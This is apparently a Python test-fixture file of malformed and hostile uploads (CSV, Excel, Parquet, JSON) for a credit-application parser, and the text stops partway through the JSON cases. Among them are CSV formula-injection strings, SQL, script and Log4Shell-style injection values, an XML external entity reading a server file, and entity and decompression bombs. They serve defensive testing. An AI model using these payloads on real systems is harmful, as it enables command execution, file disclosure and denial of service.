"""Files and bodies as they really come, and a few that somebody made on purpose; each with what is to become of it."""

import csv
import gzip
import io
import json
import re
import zipfile
from collections.abc import Callable
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, NamedTuple

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq

with (Path(__file__).parents[2] / "data/test.csv").open(newline="") as _file:
    CLIENTS: list[dict[str, Any]] = [
        {name: int(text) if text.isdigit() else text for name, text in row.items() if name != "class"}
        for row, _ in zip(csv.DictReader(_file), range(3), strict=False)
    ]
NAMES = list(CLIENTS[0])
NOON = datetime(2026, 1, 6, 12)  # noqa: DTZ001 - neither Excel nor most Parquet files have a time zone
MUST = [name for name in NAMES if name not in ("personal_status", "age", "foreign_worker")]


class Case(NamedTuple):
    """What is sent, and what is to come of it.

    `decided` has the rows that get a decision, each with the number of the client whose risk it is to get. `rejected`
    are the (row, column) of all faults. `says` stands in the problem's detail, in a fault or in a warning.
    """

    name: str
    content: bytes | Callable[[], bytes]
    status: int
    decided: dict[int, int] = {}  # noqa: RUF012 - never changed
    rejected: frozenset[tuple[int | None, str | None]] = frozenset()
    says: str = ""

    def data(self) -> bytes:
        """Return the bytes to send."""
        return self.content() if callable(self.content) else self.content


def fine(name: str, content: Any, *decided: int, rejected: Any = (), says: str = "", as_client: Any = None) -> Case:
    return Case(name, content, 200, as_client or {row: row for row in decided or (0, 1, 2)}, frozenset(rejected), says)


def nothing(name: str, content: Any, *rejected: tuple[int | None, str | None], says: str = "") -> Case:
    """No row of it can be decided."""
    return Case(name, content, 422, {}, frozenset(rejected), says)


def refused(name: str, content: Any, says: str) -> Case:
    """It is no list of applications at all."""
    return Case(name, content, 400, {}, frozenset(), says)


def changed(row: int, **changes: Any) -> list[dict[str, Any]]:
    """Return the clients, one of them with other values."""
    return [client | (changes if i == row else {}) for i, client in enumerate(CLIENTS)]


# CSV


def text_of(rows: list[dict[str, Any]], separator: str = ",", end: str = "\n") -> str:
    text = io.StringIO()
    writer = csv.DictWriter(text, list(rows[0]), delimiter=separator, lineterminator=end)
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue()


def csv_of(rows: list[dict[str, Any]], separator: str = ",") -> bytes:
    return text_of(rows, separator).encode()


TEXT = text_of(CLIENTS)
CSV = TEXT.encode()
HEADER, *LINES = TEXT.splitlines()
NOTED = [client | {"note": f"n{i}"} for i, client in enumerate(CLIENTS)]


def lines(*texts: str) -> bytes:
    return "\n".join(texts).encode() + b"\n"


def number(text: str) -> Case:
    """A text that is no whole number, or none that a duration can be."""
    return fine(f"duration {text[:20]!r}", csv_of(changed(1, duration=text)), 0, 2, rejected={(1, "duration")})


def category(text: str) -> Case:
    return fine(f"purpose {text[:20]!r}", csv_of(changed(1, purpose=text)), 0, 2, rejected={(1, "purpose")})


def whole(end: str) -> Case:
    """Another way to write a whole number."""
    text = f"{CLIENTS[1]['duration']}{end}"
    return fine(f"a whole number with {end!r} behind it", csv_of(changed(1, duration=text)))


NO_DURATIONS = (
    "1.234,56", "1,234", "6.000", "6,000", "1 234", "1'234",
    "1e309", "1e1", "NaN", "nan", "Infinity", "-inf", "-5", "-0", "0", "121", "6.5", "6,0", "+6",
    "0x10", "1_0", "six", "6 months", "٦", "６", "¼", "TRUE", "NULL", "None", "N/A", "?", "", " ", "=6", "'6", "6-7",
    "12/2026", "9" * 5000, "6." + "0" * 5000 + "1", "-" + "9" * 400,
)  # fmt: skip

NO_PURPOSES = (
    "yacht", "Radio/TV", "radio / tv", "radio/tv;", "rad\u200bio/tv", "\u202eradio/tv",
    "radio/tv\x07", "<script>alert(1)</script>", '=HYPERLINK("http://evil")', "=cmd|' /C calc'!A0",
    "@SUM(1)", "0", "nan", "'; DROP TABLE decisions; --", "{{7*7}}", "${jndi:ldap://x}", "x" * 300_000,
)  # fmt: skip
_QUOTES = 'an odd " in the middle'
CSV_FILES = [
    refused("empty", b"", "empty"),
    refused("blank", b" \n\t\r\n ", "empty"),
    refused("byte order mark alone", b"\xef\xbb\xbf\n", "empty"),
    nothing("header only", lines(HEADER), (None, None), says="no clients"),
    nothing("header only, without a line end", HEADER.encode(), (None, None), says="no clients"),
    nothing("header and blank lines", lines(HEADER, "", "  ", ",,,"), (None, None), says="no clients"),
    fine("no last line end", CSV[:-1]),
    fine("blank last lines", CSV + b"\n\r\n  \n"),
    fine("blank first lines", b"\n\n" + CSV),
    fine("lines of separators only", lines(HEADER, "," * 19, *LINES, "," * 19, ",,")),
    fine("quoted blanks only", lines(HEADER, ",".join(['""'] * 20), *LINES)),
    fine("Windows line ends", text_of(CLIENTS, end="\r\n").encode()),
    fine("old Mac line ends", text_of(CLIENTS, end="\r").encode()),
    fine("mixed line ends", f"{HEADER}\r\n{LINES[0]}\n{LINES[1]}\r{LINES[2]}".encode()),
    # The header
    nothing("a column twice", lines(HEADER + ",job", *(line + ",skilled" for line in LINES)), (None, "job")),
    nothing("a column renamed to another", CSV.replace(b"housing", b"job"), (None, "housing"), (None, "job")),
    nothing(
        "two columns missing",
        csv_of([{k: v for k, v in c.items() if k not in ("housing", "duration")} for c in CLIENTS]),
        (None, "housing"),
        (None, "duration"),
    ),
    nothing("client_id twice", lines(HEADER + ",client_id,client_id", LINES[0] + ",a,b"), (None, "client_id")),
    fine("upper case header", lines(HEADER.upper(), *LINES), says="'CHECKING_STATUS' as checking_status"),
    fine(
        "words for a header", lines(HEADER.replace("_", " ").title(), *LINES), says="'Credit Amount' as credit_amount"
    ),
    nothing(
        "two spellings of one name",
        lines(HEADER.replace("housing", "Job").replace("job", "JOB"), *LINES),
        (None, "housing"),
        (None, "job"),
    ),
    refused("no header", lines(*LINES), "must name the columns"),
    fine("Excel's own first line", lines("sep=;", *text_of(CLIENTS, ";").splitlines()), says="'sep=;' skipped"),
    refused("a header of one word", lines("hello", "world"), "must name the columns"),
    refused("10,000 columns", lines(",".join(f"c{i}" for i in range(10_000)), "1"), "10000 columns"),
    refused("1,001 columns", lines(HEADER + "," * 981, *(line + "," * 981 for line in LINES)), "1001 columns"),
    fine("1,000 columns", lines(HEADER + "," * 980, *(line + "," * 980 for line in LINES)), says="more columns"),
    fine("a note twice", lines(HEADER + ",note,note", *(line + ",a,b" for line in LINES)), says="'note' ignored"),
    fine("a column without a name", lines(HEADER + ",", *(line + ",x" for line in LINES)), says="without a name"),
    fine("spaces around names", lines(HEADER.replace(",", " , "), *LINES)),
    fine("quoted header", lines(",".join(f'"{name}"' for name in NAMES), *LINES)),
    refused("a line break in a name", lines(HEADER + ',"my\nnote"', *(line + ",x" for line in LINES)), "first line"),
    refused("an open quote in the header", lines(HEADER + ',"note', *(line + ",x" for line in LINES)), "first line"),
    fine("$ and . in names", csv_of([c | {"$where": "1", "a.b": 2, "__proto__": 3} for c in CLIENTS]), says="'$where'"),
    fine("a formula as a name", csv_of([c | {"=1+1": 1} for c in CLIENTS]), says="'=1+1' ignored"),
    fine("a name of 100,000 letters", csv_of([c | {"n" * 100_000: 1} for c in CLIENTS]), says="nnn..."),
    # Encodings
    fine("UTF-8 with byte order mark", b"\xef\xbb\xbf" + CSV),
    fine("UTF-16, as Excel's 'Unicode text'", text_of(CLIENTS, "\t").encode("utf-16")),
    fine("UTF-16, big end first", b"\xfe\xff" + TEXT.encode("utf-16-be")),
    refused("UTF-16 without byte order mark", TEXT.encode("utf-16-le"), "NUL"),
    refused("UTF-16 cut in a letter", TEXT.encode("utf-16")[:-1], "UTF-16"),
    refused("UTF-32", TEXT.encode("utf-32"), "NUL"),
    refused("latin-1", TEXT.replace("skilled", "Küche", 1).encode("latin-1"), "is not UTF-8"),
    refused("cp1252", csv_of(NOTED).replace(b"n1", "5 €".encode("cp1252")), "Line 3 is not UTF-8"),
    refused("half a surrogate pair", csv_of(NOTED).replace(b"n1", b"\xed\xa0\x80"), "Line 3 is not UTF-8"),
    refused("two byte order marks", b"\xef\xbb\xbf\xef\xbb\xbf" + lines("duration"), "must name the columns"),
    refused("NUL in a cell", csv_of(NOTED).replace(b"n1", b"n\0"), "Line 3 holds a NUL"),
    refused("NULs after the end", CSV + bytes(1000), "Line 5 holds a NUL"),
    fine("umlauts, Greek, emoji", csv_of([c | {"note": "Käße, ω, 🙂"} for c in CLIENTS])),
    # Separators
    fine("semicolons", csv_of(CLIENTS, ";")),
    fine("tabs", csv_of(CLIENTS, "\t")),
    refused("bars", csv_of(CLIENTS, "|"), "must name the columns"),
    nothing(
        "header by comma, rows by semicolon",
        lines(HEADER, *(line.replace(",", ";") for line in LINES)),
        *((i, None) for i in range(3)),
        says="1 values",
    ),
    # Quotes
    fine("a quoted line break in a note", csv_of([c | {"note": "two\nlines"} for c in CLIENTS])),
    fine("escaped quotes", csv_of([c | {"note": 'he said ""no""'} for c in CLIENTS])),
    fine("a quote within a note", lines(HEADER + ",note", *(f"{line},{_QUOTES}" for line in LINES))),
    fine("spaces after quotes", lines(HEADER, *(",".join(f'"{v}"  ' for v in line.split(",")) for line in LINES))),
    fine("a category of two lines", csv_of(changed(1, purpose="radio\ntv")), 0, 2, rejected={(1, "purpose")}),
    fine("a line break after a category", csv_of(changed(1, housing=f"{CLIENTS[1]['housing']}\n"))),
    refused("a quote never closed", lines(HEADER + ",note", LINES[0] + ',"n', *(x + ",n" for x in LINES)), "never"),
    # Even in number, these would make one client's note of all clients between them.
    refused(
        "two quotes never closed",
        lines(HEADER + ",note", LINES[0] + ',"not sure', LINES[1] + ",n", LINES[2] + ',"call again'),
        "never",
    ),
    # Rows
    fine("a value too few", lines(HEADER, LINES[0], LINES[1].rpartition(",")[0], LINES[2]), 0, 2, rejected={(1, None)}),
    fine("a value too many", lines(HEADER, LINES[0], LINES[1] + ",1", LINES[2]), 0, 2, rejected={(1, None)}),
    fine("a row of 10,000 values", lines(HEADER, *LINES, "1," * 9_999 + "1"), rejected={(3, None)}),
    fine(
        "a total below",
        lines(HEADER, *LINES, "total,3" + "," * 18),
        rejected={(3, name) for name in MUST if name != "duration"},
    ),
    fine(
        "the header again",
        lines(HEADER, LINES[0], HEADER, LINES[1]),
        as_client={0: 0, 2: 1},
        rejected={(1, name) for name in NAMES},
    ),
    fine("a client twice", lines(HEADER, LINES[0], LINES[0]), as_client={0: 0, 1: 0}),
    # Numbers
    *map(number, NO_DURATIONS),
    *map(whole, [".", ".0", ".00", ".0000", " ", "\t", "\xa0"]),
    fine("no word for no value", csv_of(changed(1, age="NA")), says="age: 'NA' taken as no value"),
    fine("quotes around values", csv_of(changed(1, housing=f"'{CLIENTS[1]['housing']}'")), says="without the quotes"),
    fine("a separator behind each row", lines(HEADER, *(line + "," for line in LINES)), says="of each row left out"),
    # Categories
    *map(category, NO_PURPOSES),
    fine("spaces that do not break around a category", csv_of(changed(1, housing=f"\xa0{CLIENTS[1]['housing']} "))),
    # Who they are
    fine(
        "a client_id of 65 letters",
        csv_of([c | {"client_id": "x" * (64 + i % 2)} for i, c in enumerate(CLIENTS)]),
        0,
        2,
        rejected={(1, "client_id")},
    ),
    fine(
        "hostile client_ids",
        csv_of([c | {"client_id": id} for c, id in zip(CLIENTS, ("=1+1", "$a.b", "<b>"), strict=True)]),
    ),
    fine(
        "a class that is none",
        csv_of([c | {"class": k} for c, k in zip(CLIENTS, ("good", "GOOD", ""), strict=True)]),
        says="class: 'GOOD' left out",
    ),
    fine(
        "a quoted note of 300,000 letters above a bad row",
        csv_of([c | {"note": "n" * 300_000 + ' ","'} for c in changed(2, duration=0)][:3]),
        0,
        1,
        rejected={(2, "duration")},
    ),
    # What is no CSV at all
    refused("HTML", b"<!doctype html><html><body><table><tr><td>duration</td></tr></table>", "must name the columns"),
    refused("JSON", json.dumps(CLIENTS).encode(), "must name the columns"),
    refused("PDF", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not UTF-8"),
    refused("PNG", b"\x89PNG\r\n\x1a\n" + bytes(range(256)), "not UTF-8"),
    refused("gzip of a CSV", lambda: gzip.compress(CSV), "not UTF-8"),
    refused("an old Excel workbook, or an encrypted one", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2000), "Excel"),
]


# Excel


def sheet_of(rows: list[list[Any]], prepare: Callable[[Any], None] = lambda book: None) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    prepare(book)
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    sink = io.BytesIO()
    book.save(sink)
    return sink.getvalue()


def excel(rows: list[dict[str, Any]], prepare: Callable[[Any], None] = lambda book: None) -> bytes:
    return sheet_of([list(rows[0]), *(list(row.values()) for row in rows)], prepare)


def edited(part: str, edit: Callable[[str], str], rows: list[dict[str, Any]] = CLIENTS) -> bytes:
    """Return a workbook one of whose parts is another text."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(excel(rows))) as old, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            text = old.read(name).decode()
            new.writestr(name, edit(text) if name == part else text)
    return sink.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def zipped(**parts: bytes) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return sink.getvalue()


def with_strings(strings: str, cells: str) -> bytes:
    """Return a workbook with more rows below its clients, whose texts stand in a part of their own."""
    name = "/xl/sharedStrings.xml"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(excel(CLIENTS))) as old, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as new:
        for part in old.namelist():
            text = old.read(part).decode()
            text = text.replace("</sheetData>", f"{cells}</sheetData>")
            new.writestr(part, text.replace("</Types>", f'<Override PartName="{name}" ContentType="{kind}"/></Types>'))
        new.writestr(name[1:], strings)
    return sink.getvalue()


def strings_of(text: str) -> str:
    return f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{text}</t></si></sst>'


NAMED = '<row><c t="s"><v>0</v></c></row>'


def shared_bomb() -> bytes:
    """Return a workbook of few kB in which 100,000 cells are one and the same text of 100,000 letters: 10 GB."""
    return with_strings(strings_of("x" * 100_000), NAMED * 100_000)


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    return with_strings(f'<!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>' + strings_of("&l9;"), NAMED)


def from_afar() -> bytes:
    return with_strings('<!DOCTYPE x [<!ENTITY far SYSTEM "file:///etc/hostname">]>' + strings_of("&far;"), NAMED)


def chart_only() -> bytes:
    book = openpyxl.Workbook()
    book.remove(book.active)
    book.create_chartsheet("chart")
    return saved(book)


def merged(book: Any) -> None:
    book.active.merge_cells("B2:B4")


def dated(book: Any) -> None:
    book.active["B3"] = NOON
    book.active["E4"] = True


def calculated(book: Any) -> None:
    book.active["B3"] = "=3+3"
    book.active["E4"] = "#N/A"


def beside(book: Any) -> None:
    """Leave cells without a value beside and below the clients, as formatting does."""
    for place in ("X2", "Z4", "C90"):
        book.active[place].font = openpyxl.styles.Font(bold=True)


def other_sheets(book: Any) -> None:
    book.create_sheet("notes").append(["not", "read"])


NO_ONE_SAYS = {"foreign_worker": None}
EXCEL_FILES = [
    fine("a workbook", lambda: excel(CLIENTS)),
    fine("several sheets", lambda: excel(CLIENTS, other_sheets)),
    fine(
        "numbers as floats and as texts",
        lambda: excel(
            changed(1, duration=float(CLIENTS[1]["duration"]), credit_amount=str(CLIENTS[1]["credit_amount"]))
        ),
    ),
    fine("the last cell of a row is blank", lambda: excel(changed(1, foreign_worker=None))),
    fine(
        "the last cells are blank, one is needed",
        lambda: excel(changed(1, own_telephone=None, foreign_worker=None)),
        0,
        2,
        rejected={(1, "own_telephone")},
    ),
    fine("cells of no value beside the table", lambda: excel(CLIENTS, beside)),
    fine(
        "blank rows between",
        lambda: sheet_of(
            [
                NAMES,
                [],
                *(list(c.values()) for c in CLIENTS[:1]),
                [None] * 20,
                [],
                *(list(c.values()) for c in CLIENTS[1:]),
            ]
        ),
    ),
    fine("line breaks in a cell", lambda: excel([c | {"note": 'a\r\nb\rc\n"d"'} for c in CLIENTS])),
    fine("a carriage return in a cell", lambda: edited(SHEET, lambda t: t.replace("n1<", "n&#13;1<"), NOTED)),
    fine(
        "an escaped carriage return in a cell", lambda: edited(SHEET, lambda t: t.replace("n1<", "n_x000D_1<"), NOTED)
    ),
    fine("a date and a truth", lambda: excel(CLIENTS, dated), 0, rejected={(1, "duration"), (2, "credit_amount")}),
    fine(
        "a formula never calculated and an error",
        lambda: excel(CLIENTS, calculated),
        0,
        rejected={(1, "duration"), (2, "credit_amount")},
    ),
    fine("merged cells", lambda: excel(CLIENTS, merged), 0, rejected={(1, "duration"), (2, "duration")}),
    fine(
        "a number beyond all numbers",
        lambda: edited(SHEET, lambda t: re.sub(r'(r="B3"[^>]*><v>)[^<]*', r"\g<1>1E+309", t)),
        0,
        2,
        rejected={(1, "duration")},
    ),
    fine(
        "a text with three digits behind a dot",
        lambda: excel(changed(1, credit_amount="400.000")),
        0,
        2,
        rejected={(1, "credit_amount")},
        says="may be 400000 or 400",
    ),
    fine(
        "a number that is shown with three zeros",
        lambda: excel(CLIENTS, lambda book: setattr(book.active["B3"], "number_format", "0.000")),
    ),
    fine("a label that is a number", lambda: excel([c | {"class": 1} for c in CLIENTS]), says="left out: neither good"),
    fine("a word for no value", lambda: excel(changed(1, age="NULL")), says="age: 'NULL' taken as no value"),
    fine("quotes around a cell's text", lambda: excel(changed(1, housing=f"'{CLIENTS[1]['housing']}'")), says="quotes"),
    fine(
        "names as words",
        lambda: excel([{k.replace("_", " ").title(): v for k, v in c.items()} for c in CLIENTS]),
        says="'Credit Amount' as credit_amount",
    ),
    fine("a duration that is a half", lambda: excel(changed(1, duration=6.5)), 0, 2, rejected={(1, "duration")}),
    fine(
        "too many values in a row",
        lambda: sheet_of([NAMES, *([*c.values(), *("x" for _ in range(i % 2))] for i, c in enumerate(CLIENTS))]),
        0,
        2,
        rejected={(1, None)},
    ),
    nothing("a workbook of a header only", lambda: sheet_of([NAMES]), (None, None), says="no clients"),
    nothing(
        "a workbook without a column",
        lambda: excel([{k: v for k, v in c.items() if k != "job"} for c in CLIENTS]),
        (None, "job"),
    ),
    refused("an empty workbook", lambda: sheet_of([]), "empty"),
    refused(
        "a title above the header", lambda: sheet_of([["Clients of November"], [], NAMES]), "must name the columns"
    ),
    refused("a workbook of a chart only", chart_only, "no sheet of cells"),
    refused("a workbook cut in the middle", lambda: excel(CLIENTS)[:3000], "no Excel workbook"),
    refused(
        "a workbook of XML that never ends", lambda: edited(SHEET, lambda t: t[: len(t) // 2]), "no Excel workbook"
    ),
    refused("a zip archive of a CSV", lambda: zipped(**{"clients.csv": CSV}), "no Excel workbook"),
    refused(
        "a Word document",
        lambda: zipped(**{"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),
        "no Excel workbook",
    ),
    refused(
        "an OpenDocument sheet",
        lambda: zipped(mimetype=b"application/vnd.oasis.opendocument.spreadsheet"),
        "no Excel workbook",
    ),
    refused("10,000 columns in a workbook", lambda: sheet_of([[f"c{i}" for i in range(10_000)]]), "columns"),
    refused(
        "a bomb of blanks", lambda: edited(SHEET, lambda t: t + " " * 200_000_000), "too large once it is unpacked"
    ),
    refused("a bomb of one shared text", shared_bomb, "too large once it is unpacked"),
    refused("a bomb of entities", laughs, "no Excel workbook"),
    refused("a file of the server in an entity", from_afar, "no Excel workbook"),
    fine(
        "texts in a part of their own",
        lambda: with_strings(strings_of("6"), NAMED),
        rejected={(3, name) for name in MUST},
    ),
    # Where a value stands is said by its cell.
    fine(
        "a row of an impossible number",
        lambda: edited(SHEET, lambda t: t.replace('<row r="3"', '<row r="999999999999"')),
    ),
    refused(
        "a cell of an impossible row",
        lambda: edited(SHEET, lambda t: t.replace('r="A3"', 'r="A999999999999"')),
        "too large once it is unpacked",
    ),
    refused(
        "a cell far to the right",
        lambda: edited(SHEET, lambda t: t.replace("</sheetData>", '<row><c r="XFD9"><v>1</v></c></row></sheetData>')),
        "16384 columns",
    ),
]


# Parquet


def table(rows: list[dict[str, Any]] = CLIENTS, **columns: Any) -> pa.Table:
    found = pa.table({name: pa.array([row[name] for row in rows]) for name in rows[0]})
    for name, column in columns.items():
        at = found.schema.get_field_index(name)
        found = found.append_column(name, column) if at < 0 else found.set_column(at, name, column)
    return found


def parquet(content: pa.Table, **options: Any) -> bytes:
    sink = io.BytesIO()
    pq.write_table(content, sink, **options)
    return sink.getvalue()


def of_type(name: str, type: pa.DataType, rows: list[dict[str, Any]] = CLIENTS) -> Callable[[], bytes]:
    """Return a file one of whose columns has another type."""
    return lambda: parquet(table(rows, **{name: pa.array([row[name] for row in rows]).cast(type)}))


def with_column(name: str, values: list[Any], type: pa.DataType | None = None) -> Callable[[], bytes]:
    return lambda: parquet(table(**{name: pa.array(values, type)}))


def texts_bomb() -> bytes:
    """Return a file of kilobytes whose texts are 2 GB once each row has its own."""
    one = pa.DictionaryArray.from_arrays(pa.array([0] * 100_000, pa.int8()), ["x" * 1000])
    return parquet(pa.table(dict.fromkeys(NAMES, one)), compression="zstd")


_DURATIONS = [client["duration"] for client in CLIENTS]
PARQUET_FILES = [
    fine("Parquet", lambda: parquet(table())),
    fine(
        "Parquet of dictionaries",
        lambda: parquet(table(purpose=pa.array([c["purpose"] for c in CLIENTS]).dictionary_encode())),
    ),
    fine("Parquet, large_string", of_type("purpose", pa.large_string())),
    fine("Parquet, string_view", of_type("purpose", pa.string_view())),
    fine("Parquet, binary", of_type("purpose", pa.binary())),
    fine("Parquet, int8", of_type("duration", pa.int8())),
    fine("Parquet, uint64", of_type("duration", pa.uint64())),
    fine("Parquet, float16", of_type("duration", pa.float16())),
    fine("Parquet, decimals", with_column("duration", [Decimal(f"{duration}.00") for duration in _DURATIONS])),
    fine("Parquet, spans of time in a note", with_column("note", [timedelta(1)] * 3)),
    fine(
        "Parquet, dictionaries of numbers", with_column("note", pa.array([7, 7, None]).dictionary_encode().to_pylist())
    ),
    fine("Parquet, numbers as text", of_type("duration", pa.string())),
    fine("Parquet, three zeros of decimals", with_column("duration", [Decimal(f"{d}.000") for d in _DURATIONS])),
    fine(
        "Parquet, a number with a fraction",
        with_column("duration", [float(_DURATIONS[0]), 6.125, 6.5]),
        0,
        rejected={(1, "duration"), (2, "duration")},
        says="duration '6.125' is not a whole number",
    ),
    fine(
        "Parquet, three zeros in a text",
        with_column("duration", [str(_DURATIONS[0]), f"{_DURATIONS[1]}.000", str(_DURATIONS[2])]),
        0,
        2,
        rejected={(1, "duration")},
        says=f"may be {_DURATIONS[1]}000 or {_DURATIONS[1]}",
    ),
    fine("Parquet, a label nobody knows", with_column("class", [0, 1, 1]), says="left out: neither good nor bad"),
    fine("Parquet, words for no value", with_column("age", ["NA", "NaN", "None"]), says="taken as no value"),
    fine(
        "Parquet, other names", lambda: parquet(table().rename_columns([n.title() for n in NAMES])), says="as purpose"
    ),
    fine(
        "Parquet, floats, as pandas has where a value is missing",
        lambda: parquet(table(duration=pa.array([float(d) if i != 1 else None for i, d in enumerate(_DURATIONS)]))),
        0,
        2,
        rejected={(1, "duration")},
    ),
    fine(
        "Parquet, NaN and infinity",
        with_column("duration", [_DURATIONS[0] * 1.0, float("nan"), float("inf")]),
        0,
        rejected={(1, "duration"), (2, "duration")},
    ),
    fine(
        "Parquet, halves and minus",
        with_column("duration", [_DURATIONS[0] * 1.0, 6.5, -6.0]),
        0,
        rejected={(1, "duration"), (2, "duration")},
    ),
    fine(
        "Parquet, huge numbers",
        with_column("duration", [_DURATIONS[0], 2**64 - 1, 2**63], pa.uint64()),
        0,
        rejected={(1, "duration"), (2, "duration")},
    ),
    nothing(
        "Parquet, timestamps",
        with_column("duration", [NOON] * 3, pa.timestamp("ns", "Europe/Berlin")),
        *((i, "duration") for i in range(3)),
    ),
    nothing("Parquet, dates", with_column("duration", [date(2026, 1, 6)] * 3), *((i, "duration") for i in range(3))),
    nothing("Parquet, truths", with_column("duration", [True] * 3), *((i, "duration") for i in range(3))),
    nothing("Parquet, nulls", with_column("duration", [None] * 3, pa.null()), *((i, "duration") for i in range(3))),
    fine("Parquet, an optional column of nulls", with_column("age", [None] * 3, pa.null())),
    fine("Parquet, a note with quotes and line breaks", with_column("note", ['a,"b"\n', "\r\n", None])),
    fine("Parquet, dates in a note", with_column("note", [date(2026, 1, 6)] * 3)),
    refused("Parquet, NUL", with_column("note", ["\0"] * 3), "NUL"),
    refused("Parquet, bytes that are no text", with_column("note", [b"\xff"] * 3), "Parquet"),
    refused("Parquet, lists", with_column("duration", [[1]] * 3), "lists or objects"),
    refused("Parquet, structs", with_column("duration", [{"a": 1}] * 3), "lists or objects"),
    refused("Parquet, ids in lists", with_column("Client ID", [["a"]] * 3), "'Client ID' holds lists or objects"),
    fine(
        "Parquet, maps",
        with_column("note", [[("a", 1)]] * 3, pa.map_(pa.string(), pa.int8())),
        says="'note' ignored: it holds lists or objects",
    ),
    fine("Parquet, lists nobody needs", with_column("note", [[1, 2], [], None]), says="'note' ignored: it holds"),
    fine("Parquet, objects nobody needs", with_column("a", [{"b": {"c": 1}}] * 3), says="'a' ignored: it holds"),
    fine("Parquet, classes in lists", with_column("class", [["good"]] * 3), says="'class' ignored: it holds"),
    nothing(
        "Parquet, a column twice",
        lambda: parquet(table().append_column("job", pa.array(["skilled"] * 3))),
        (None, "job"),
    ),
    nothing("Parquet without a column", lambda: parquet(table().drop_columns(["job"])), (None, "job")),
    nothing("Parquet without rows", lambda: parquet(table().slice(0, 0)), (None, None), says="no clients"),
    refused("Parquet without columns", lambda: parquet(pa.table({})), "empty"),
    refused("Parquet of another table", lambda: parquet(pa.table({"a": [1]})), "must name the columns"),
    refused(
        "Parquet of 10,000 columns", lambda: parquet(pa.table({f"c{i}": [1] for i in range(10_000)})), "10000 columns"
    ),
    refused("Parquet cut in the middle", lambda: parquet(table())[:-100], "no Parquet file"),
    refused(
        "Parquet whose data are another's", lambda: b"PAR1" + bytes(500) + parquet(table())[504:], "no Parquet file"
    ),
    refused("Parquet, encrypted", b"PARE" + bytes(100) + b"PARE", "NUL"),
    refused("Parquet, a bomb of rows", lambda: parquet(pa.table({"duration": pa.nulls(20_000_000)})), "200,000 rows"),
    refused("Parquet, a bomb of repeated texts", texts_bomb, "too large once it is unpacked"),
    refused("Arrow IPC", b"ARROW1\0\0" + bytes(100), "NUL"),
]


# JSON


def body(rows: Any) -> bytes:
    return json.dumps(rows).encode()


def raw(name: str, text: str, row: int = 1) -> bytes:
    """Return the clients as JSON, one value of one of them as it is written here."""
    return body(changed(row, **{name: "@@"})).replace(b'"@@"', text.encode())


def value(name: str, text: str) -> Case:
    return fine(f"{name} {text[:30]}", raw(name, text), 0, 2, rejected={(1, name)})


NO_JSON_DURATIONS = (
    "null", "true", "false", "[]", "[6]", "{}", '{"$gt": 0}', "6.5", "-6", "-0", "0", "1e309", "-1e309", "1e308",
    "1" * 400, "9" * 4000, '"1e309"', '"NaN"', '"1.234,56"', '"=1+1"', '"6\\u0000"', f"{2**53 + 1}", "[[[[1]]]]",
    '"' + "6" * 500_000 + '"',
)  # fmt: skip

NO_JSON_PURPOSES = (
    "null", "7", "true", '["radio/tv"]', '{"a.b": "$x"}', '"<script>alert(1)</script>"', '"Radio/TV"', r'"\u202e"',
    '"' + "x" * 500_000 + '"',
)  # fmt: skip
JSON_BODIES = [
    fine("a list", body(CLIENTS)),
    fine("numbers as texts and floats", raw("duration", f'" {_DURATIONS[1]}.0 "')),
    fine("a float that is whole", raw("duration", f"{_DURATIONS[1]}.0")),
    fine("a whole number with an exponent", raw("duration", f"{_DURATIONS[1]}e0")),
    fine(
        "$ and . keys", body([c | {"$where": "1", "a.b": 2, "__proto__": {"x": 1}} for c in CLIENTS]), says="'$where'"
    ),
    fine("an empty key", body([c | {"": 1} for c in CLIENTS]), says="without a name"),
    fine("5,000 unknown keys", body([CLIENTS[0] | {f"k{i}": i for i in range(5000)}]), 0, says="4980 more columns"),
    fine("a key of 100,000 letters", body([c | {"k" * 100_000: 1} for c in CLIENTS]), says="kkk..."),
    fine("whole surrogate pairs", raw("client_id", r'"\ud83d\ude00"')),
    fine("an escaped NUL in a client_id", raw("client_id", r'"a\u0000b"')),
    fine("a number as client_id", raw("client_id", "4711")),
    fine("null where it may be absent", raw("age", "null")),
    fine("an empty text where it may be absent", raw("age", '" "')),
    fine("deep nesting in an unknown key", raw("note", "[" * 500 + "]" * 500)),
    *(value("duration", text) for text in NO_JSON_DURATIONS),
    *(value("purpose", text) for text in NO_JSON_PURPOSES),
    *(value("client_id", text) for text in ("true", "[1]", "{}", "9" * 65, '"' + "x" * 65 + '"')),
    *(
        fine(f"class {text}", raw("class", text), says="left out: neither good nor bad")
        for text in ("1", "true", '["good"]', '"GOOD"')
    ),
    fine(
        "rows that are no objects",
        body([None, CLIENTS[1], 7, "x", [], True, [CLIENTS[0]]]),
        1,
        rejected={(i, None) for i in (0, 2, 3, 4, 5, 6)},
    ),
    nothing("an empty object", b"[{}]", *((0, name) for name in MUST)),
    nothing("only null", b"[null]", (0, None)),
    nothing("a list in a list", body([CLIENTS]), (0, None)),
    refused("no bytes", b"", "no JSON list"),
    refused("an empty list", b"[]", "empty"),
    refused("one client, not in a list", body(CLIENTS[0]), "must be a JSON list"),
    refused("a list in an object", body({"clients": CLIENTS}), "must be a JSON list"),
    refused("a text", b'"duration"', "must be a JSON list"),
    refused("a number", b"6", "must be a JSON list"),
    refused("null", b"null", "must be a JSON list"),
    refused("a CSV", CSV, "no JSON list"),
